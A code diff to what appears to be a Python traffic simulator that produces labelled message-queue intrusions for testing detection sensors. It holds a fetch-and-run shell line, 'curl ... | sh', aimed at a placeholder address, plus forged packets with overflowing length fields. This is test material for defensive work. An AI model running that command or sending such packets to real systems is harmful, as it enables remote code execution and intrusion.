@@ -197,6 +197,8 @@ _COLLECTED: Final = 6
 """The most copies that a program moves at once from a host to the hub."""
 _FROM_AFAR: Final = frozenset({"stocktaking", "transfer"})
 """The applications whose queues a program on another host reads, once an hour."""
+_LOOKS: Final = 3
+"""In one of so many hours it leaves the messages in the queues."""
 
 
 class Outcome(NamedTuple):
@@ -476,7 +478,7 @@ class Rehearsal:
                 self._net.at(at, partial(self._net.collect, name, "hub", sensor, own, most=_COLLECTED))
 
     def _plan_reads(self, branches: list[str]) -> None:
-        """Plan a program that reads some queues once an hour from another host."""
+        """Plan a program that reads some queues once an hour from another host; at times it only looks."""
         own = Random(f"{self._more.random()} reads")  # noqa: S311  # repeatable on purpose
         reader = Reader("reporting", IPv4Address("10.3.0.9"), GUID(own.randbytes(16)))
         stocktaking = _OF_BRANCHES[-1][1]
@@ -486,7 +488,9 @@ class Rehearsal:
             for host, queue in queues:
                 at = _START + hour * _HOUR + own.uniform(0.6, 0.9) * _HOUR
                 sensor = self._sensors[0].name
-                read = partial(self._net.read_from_afar, reader, host, queue, sensor, own)
+                read = partial(
+                    self._net.read_from_afar, reader, host, queue, sensor, own, looks=hour % _LOOKS == 1
+                )
                 self._net.at(at, read)
 
     def _plan_message(
@@ -628,13 +632,13 @@ class Rehearsal:
         wrong = "length-beyond-packet"
         size = random.choice((0, 15, 0x40_0001, 0xFFFF_FFFF))
         overflow, probe = _over_http(length=0x7FFF_0000), _over_http()
-        for source, data, stated, patterns in (
-            (fuzzer, probe, size, ["srmp-probe"] if size > len(probe) else []),
-            (hider, overflow, len(overflow) + 8, ["srmp-overflow"]),
+        for source, data, stated, pattern in (
+            (fuzzer, probe, size, "srmp-probe"),
+            (hider, overflow, len(overflow) + 8, "srmp-overflow"),
         ):
             at = _START + random.uniform(0.1, 0.9) * span
             bent = data[:8] + struct.pack("<I", stated) + data[12:]
-            self._intrude((wrong, *patterns, "no-handshake"), at, source, dst, [(0, bent)])
+            self._intrude((wrong, pattern, "no-handshake"), at, source, dst, [(0, bent)])
 
     def _plan_repeated_attacks(self, dst: str) -> None:
         """Plan attacks of several connections: two sources with one identity, and many at once.
@@ -897,7 +901,7 @@ _SCRIPT: Final = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
 
 def _is_seen(letter: Letter) -> bool:
     """Return whether a packet of a message was captured completely."""
-    return any(row.what in {"carried", "read"} for row in letter.captured.values())
+    return any(row.what in {"carried", "returned"} for row in letter.captured.values())
 
 
 def _queue_number(packet: mqmq.UserMessage) -> int:
